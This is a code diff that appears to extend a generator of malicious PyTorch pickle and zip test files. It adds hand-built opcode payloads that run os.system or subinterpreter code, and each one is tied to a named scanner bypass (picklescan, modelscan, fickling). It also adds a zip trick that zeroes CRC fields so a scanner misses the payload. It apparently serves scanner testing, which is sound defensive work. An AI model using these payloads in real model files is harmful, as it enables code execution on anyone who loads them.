@@ -13,6 +13,7 @@ tricks (duplicate entries, two central directories, case decoys, non-canonical l
 
 from __future__ import annotations
 
+import importlib.util
 import io
 import pickle
 import struct
@@ -186,6 +187,32 @@ def odd_first_opcode(s: str) -> bytes:
     return b"G" + struct.pack(">d", 1.0) + b"0" + os_system(s)[2:]
 
 
+def memo_confusion(s: str) -> bytes:
+    # picklescan#14: BINPUT fills memo 0 and 1, MEMOIZE then writes 2 and 3; a scanner that counts
+    # only MEMOIZE believes memo 0/1 hold torch._utils/_rebuild_tensor_v2
+    return (b"\x80\x04" + u("os") + b"q\x00" + u("system") + b"q\x01" + u("torch._utils") + b"\x94"
+            + u("_rebuild_tensor_v2") + b"\x94" + b"0000" + b"h\x00h\x01\x93" + u(shell(s)) + b"\x85R.")
+
+
+def build_setattr_stack_global(s: str) -> bytes:
+    # modelscan#85: BUILD's slot state sets attributes on an imported function, a dotted GLOBAL reads
+    # them back, and STACK_GLOBAL takes its module and name from values no opcode argument shows
+    target = g("collections", "namedtuple")
+    state = b"N" + dct_raw([("a", u("os")), ("b", u("system"))]) + b"\x86"
+    return (b"\x80\x04" + target + state + b"b0" + g("collections", "namedtuple.a") + g("collections", "namedtuple.b")
+            + b"\x93" + u(shell(s)) + b"\x85R.")
+
+
+def private_subinterpreter(s: str) -> bytes:
+    # fickling GHSA-6ggj-6f2q-f7mx: a private module runs source in a subinterpreter
+    return p2(call(g("_xxsubinterpreters", "run_string"), call(g("_xxsubinterpreters", "create")), u(python(s))))
+
+
+def stdlib_gadget_class(s: str) -> bytes:
+    # a standard-library class rebuilt by NEWOBJ + BUILD: no model class lives in the stdlib
+    return p2(g("cmd", "Cmd") + b")\x81" + dct_raw([("prompt", u(shell(s)))]) + b"b")
+
+
 def inside_state_dict(s: str) -> bytes:
     return p2(dct_raw([("weight", integer(0)), ("hook", call(g("os", "system"), u(shell(s))))]))
 
@@ -217,6 +244,10 @@ PAYLOADS = {
     "broken-after-payload": (broken_after_payload, True),
     "odd-first-opcode": (odd_first_opcode, True),
     "inside-a-state-dict": (inside_state_dict, True),
+    "memo-confusion": (memo_confusion, True),
+    "build-setattr-stack-global": (build_setattr_stack_global, True),
+    "private-module-subinterpreter": (private_subinterpreter, importlib.util.find_spec("_xxsubinterpreters") is not None),
+    "stdlib-gadget-class": (stdlib_gadget_class, False),  # static: shows the stdlib rule, runs nothing
 }
 
 
@@ -314,8 +345,18 @@ CONTAINERS = {
     "legacy": legacy,
     "raw": lambda pkl: pkl,
 }
+def bad_crc(pkl: bytes) -> bytes:
+    """torch does not check CRC-32 (zipfile refuses the entry): a payload zipfile never shows."""
+    data = bytearray(zip_bytes(pkl))
+    at = data.index(CENTRAL)
+    data[at + 16: at + 20] = b"\0\0\0\0"
+    data[14:18] = b"\0\0\0\0"
+    return bytes(data)
+
+
 # The archive tricks, each around the plain os.system payload (torch runs every one of them).
 TRICKS = {
+    "zip-bad-crc": lambda s: bad_crc(os_system(s)),
     "zip-duplicate-data-pkl": lambda s: duplicate_entry(os_system(s)),
     "zip-two-central-directories": lambda s: two_central_directories(os_system(s)),
     "zip-DATA.PKL-case-decoy": lambda s: case_decoy(os_system(s)),
